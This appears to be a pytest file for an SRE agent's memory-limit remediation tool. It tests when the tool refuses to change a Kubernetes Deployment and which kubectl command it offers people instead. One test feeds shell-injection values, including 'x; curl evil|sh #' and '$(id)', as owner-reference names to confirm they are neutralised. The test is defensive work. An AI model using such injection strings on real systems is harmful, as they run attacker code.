"""From the pod to the Deployment: what every remediation refuses, shown on increase_memory_limit."""

from dataclasses import replace

import pytest

from sre_agent.evidence import read_workload
from sre_agent.run import Verdict
from sre_agent.tools.registry import TOOLS
from sre_agent.tools.validate import arguments_for
from sre_agent.tools.workload_chain import same_container_judgements
from tests.unit.memory_cases import KILLED, OPERATOR, TOOL, only, world
from tests.unit.workload_objects import (
    NOW,
    ago,
    assess,
    bound,
    cluster,
    container,
    context,
    controller,
    deployment,
    node,
    oom,
    owned_by,
    pod,
    replica_set,
    rules,
    running,
)


@pytest.mark.parametrize(
    ("before", "after", "words"),
    [
        pytest.param(
            container(),
            container(limit="1Gi"),
            "memory limit is 256Mi in the ReplicaSet of the pod and 1Gi in the template",
            id="the limit",
        ),
        pytest.param(container(), container(image="registry.example/app:2"), "image is", id="image"),
        pytest.param(container(request="200Mi"), container(), "memory request is", id="the request"),
        pytest.param(container(limit=None), container(), "memory limit is unset", id="was unset"),
        pytest.param(
            container(), container("renamed"), "container app is in the ReplicaSet of the pod alone", id="gone"
        ),
    ],
)
async def test_a_template_that_somebody_already_changed_is_left_alone(before, after, words):
    objects = world(containers=[before])
    objects[0]["spec"]["template"]["spec"]["containers"] = [after]
    found = await assess(TOOL, objects)
    judgement = next(entry for entry in found.judgements if entry.rule == "already-changed")
    assert (found.change, judgement.settled) == (None, True)
    assert words in judgement.reason


@pytest.mark.parametrize(
    ("in_pod", "words"),
    [
        pytest.param(
            [container(limit="1Gi")], "memory limit is 1Gi in the pod and 256Mi in the template", id="resized"
        ),
        pytest.param([container(request="200Mi")], "memory request is 200Mi in the pod", id="the request resized"),
        pytest.param([container(limit=None)], "memory limit is unset in the pod", id="the limit removed"),
        pytest.param([container(image="mirror.example/app:1")], "image is mirror.example/app:1", id="image mutated"),
    ],
)
async def test_what_was_set_on_the_pod_alone_is_not_changed_in_the_template(in_pod, words):
    found = await assess(TOOL, world(containers=[container()], in_pod=in_pod))
    judgement = next(entry for entry in found.judgements if entry.rule == "pod-differs")
    assert (found.change, judgement.settled) == (None, False)
    assert words in judgement.reason
    assert judgement.reason.endswith("set on the pod by an admission webhook or by hand")


async def test_an_injected_sidecar_is_in_no_template():
    objects = world(
        in_pod=[container(), container("mesh")], containers=[container()], statuses=(running(), oom("mesh"))
    )
    found = await assess(TOOL, objects, pod="app-2-a", container="mesh")
    judgement = next(entry for entry in found.judgements if entry.rule == "pod-differs")
    assert (found.change, judgement.settled) == (None, False)
    assert "container mesh is in the pod alone: set on the pod by an admission webhook or by hand" in judgement.reason


async def test_without_a_replica_set_it_is_not_said_who_changed_what():
    owner = controller("StatefulSet", containers=[container(limit="1Gi")])
    found = await assess(TOOL, [owner, pod(owner=owner, statuses=KILLED), node()])
    judgement = next(entry for entry in found.judgements if entry.rule == "pod-differs")
    assert not judgement.settled
    assert judgement.reason.endswith("1Gi in the template: one of the two was changed")


async def test_a_replica_set_that_was_recorded_without_its_template_says_nothing():
    objects = world()
    del objects[1]["spec"]["template"]
    assert (await assess(TOOL, objects)).change is not None
    objects[2]["spec"]["containers"] = [container(limit="1Gi")]
    judgement = only(await assess(TOOL, objects))
    assert (judgement.rule, judgement.settled) == ("pod-differs", False)
    assert judgement.reason.endswith("256Mi in the template: one of the two was changed")


async def test_an_amount_in_the_pod_that_cannot_be_read_is_another_one():
    _, target, on = await bound(world(), pod="app-2-a", container="app")
    evidence = await read_workload(on, target, NOW)
    held = {**evidence.pod, "spec": {"containers": [container(limit="some")]}}
    assert "memory limit is some in the pod" in only_of(same_container_judgements(replace(evidence, pod=held), "app"))


def only_of(judgements):
    (judgement,) = judgements
    return judgement.reason


async def test_the_same_amount_written_otherwise_is_no_change():
    objects = world(containers=[container(limit="1Gi")], in_pod=[container(limit="1024Mi")])
    assert (await assess(TOOL, objects)).change.value == "2Gi"


async def test_a_pod_of_an_older_revision_proves_nothing_about_the_template():
    owner = deployment()
    old, new = replica_set(owner, revision=1, age=900), replica_set(owner)
    found = await assess(TOOL, [owner, old, new, pod(owner=old, statuses=KILLED), node()])
    judgement = next(entry for entry in found.judgements if entry.rule == "already-changed")
    assert judgement.settled
    assert "older revision than ReplicaSet app-2" in judgement.reason


@pytest.mark.parametrize(
    ("change", "words"),
    [
        pytest.param(
            lambda owner: (owner["metadata"].update(generation=5), owner["status"].update(observedGeneration=4)),
            "generation 5, its controller has seen 4",
            id="the controller has not seen the template",
        ),
        pytest.param(
            lambda owner: owner["metadata"]["annotations"].update({"deployment.kubernetes.io/revision": "3"}),
            "is at revision 3, its newest ReplicaSet app-2 at 2",
            id="the newest ReplicaSet is not there",
        ),
    ],
)
async def test_a_rollout_that_has_not_reached_its_replica_set_is_waited_for(change, words):
    objects = world()
    change(objects[0])
    judgement = only(await assess(TOOL, objects))
    assert judgement.rule == "rollout-observed"
    assert words in judgement.reason


@pytest.mark.parametrize(
    ("kind", "api_version", "by_hand"),
    [
        ("StatefulSet", "apps/v1", "kubectl -n demo set resources statefulset/app -c app --limits=memory=512Mi"),
        ("DaemonSet", "apps/v1", "kubectl -n demo set resources daemonset/app -c app --limits=memory=512Mi"),
        ("Job", "batch/v1", "kubectl -n demo describe pod app-2-a"),
        ("ReplicaSet", "apps/v1", "kubectl -n demo describe pod app-2-a"),
    ],
)
async def test_only_deployments_are_written_to_others_get_the_command(kind, api_version, by_hand):
    owner = controller(kind, api_version=api_version)
    found = await assess(TOOL, [owner, pod(owner=owner, statuses=KILLED), node()])
    judgement = only(found)
    assert (found.change, judgement.rule, judgement.by_hand) == (None, "ownership-chain", by_hand)
    assert f"the controller is {kind} demo/app; only Deployments are written to" in judgement.reason


ROLLOUT = {"apiVersion": "argoproj.io/v1alpha1", "kind": "Rollout", "metadata": {"name": "app", "uid": "uid-r"}}
OF_ROLLOUT = controller("ReplicaSet", "app-2", owner=owned_by(ROLLOUT))
MISSING = controller("ReplicaSet", "app-9")


@pytest.mark.parametrize(
    ("objects", "words"),
    [
        pytest.param([pod(statuses=KILLED)], "nothing controls pod demo/app-2-a", id="a bare pod"),
        pytest.param(
            [pod(owner=OPERATOR, statuses=KILLED)], "controlled by Cache main, which is not", id="an unknown controller"
        ),
        pytest.param(
            [pod(owner=MISSING, statuses=KILLED)], "names as its controller, is not in the cluster", id="missing owner"
        ),
        pytest.param(
            [OF_ROLLOUT, pod(owner=OF_ROLLOUT, statuses=KILLED)], "is controlled by Rollout app", id="below a Rollout"
        ),
        pytest.param(
            world(owner=owned_by(OPERATOR)), "Cache main, which would take the change back", id="an operator's"
        ),
        pytest.param(
            world(owner={**owned_by(OPERATOR), "controller": False}),
            "Deployment demo/app is owned by Cache main, which may take the change back",
            id="an operator's that does not say that it controls",
        ),
    ],
)
async def test_a_chain_that_does_not_end_at_a_free_deployment_is_refused(objects, words):
    found = await assess(TOOL, [*objects, *([] if any(o["kind"] == "Node" for o in objects) else [node()])])
    judgement = only(found)
    assert (found.change, judgement.rule, judgement.settled) == (None, "ownership-chain", False)
    assert words in judgement.reason


async def test_of_an_operators_deployment_a_person_is_shown_the_operators_object():
    judgement = only(await assess(TOOL, world(owner=owned_by(OPERATOR))))
    assert judgement.by_hand == "kubectl -n demo describe cache main"


@pytest.mark.parametrize("hostile", ["x; curl evil|sh #", "$(id)", "a`id`", "--server=http://evil.example", "a b"])
async def test_an_owner_reference_brings_no_second_command_into_the_one_to_copy(hostile):
    """The API server checks neither its kind nor its name, and whoever may create a pod writes it."""
    above = {"apiVersion": "example.com/v1", "kind": hostile, "metadata": {"name": hostile, "uid": "uid-c"}}
    missing = {"apiVersion": "apps/v1", "kind": "StatefulSet", "metadata": {"name": hostile, "uid": "uid-s"}}
    of_an_operator = only(await assess(TOOL, world(owner=owned_by(above))))
    assert of_an_operator.by_hand == "kubectl -n demo describe NAME NAME"
    of_nobody = only(await assess(TOOL, [pod(owner=missing, statuses=KILLED), node()]))
    assert of_nobody.by_hand == "kubectl -n demo set resources statefulset/NAME -c app --limits=memory=512Mi"
    assert hostile in of_nobody.reason


async def test_a_workload_without_a_pod_has_nothing_to_look_at():
    owner = deployment()
    found = await assess(TOOL, [owner, replica_set(owner)], deployment="app")
    assert rules(found) == ["pod"]


async def test_a_pod_that_is_being_deleted_is_left_to_its_successor():
    judgement = only(await assess(TOOL, world(pod_fields={"deletionTimestamp": ago(1)})))
    assert (judgement.rule, judgement.settled) == ("pod", True)


async def read_then(objects, spoil, **labels):
    """What the tool says when the objects change between binding and the look before the write."""
    found, target, _ = await bound(objects, **labels)
    spoil(objects)
    evidence = await read_workload(cluster(*objects), target, NOW)
    arguments = TOOLS[TOOL].input(**arguments_for(TOOLS[TOOL], target))
    return TOOLS[TOOL].assess(arguments, evidence, context(found, target))


@pytest.mark.parametrize(
    ("spoil", "rule", "settled", "words"),
    [
        pytest.param(lambda objects: objects.pop(2), "pod", True, "pod demo/app-2-a is gone", id="the pod went away"),
        pytest.param(
            lambda objects: objects.pop(0), "ownership-chain", True, "Deployment demo/app is gone", id="the Deployment"
        ),
        pytest.param(
            lambda objects: objects.pop(1),
            "ownership-chain",
            False,
            "no ReplicaSet of Deployment app controls pod app-2-a",
            id="the ReplicaSet between them",
        ),
    ],
)
async def test_what_went_away_after_it_was_bound_is_not_written_to(spoil, rule, settled, words):
    found = await read_then(world(), spoil, pod="app-2-a", container="app")
    judgement = next(entry for entry in found.judgements if entry.rule == rule)
    assert (found.change, judgement.verdict, judgement.settled) == (None, Verdict.REFUSE, settled)
    assert words in judgement.reason
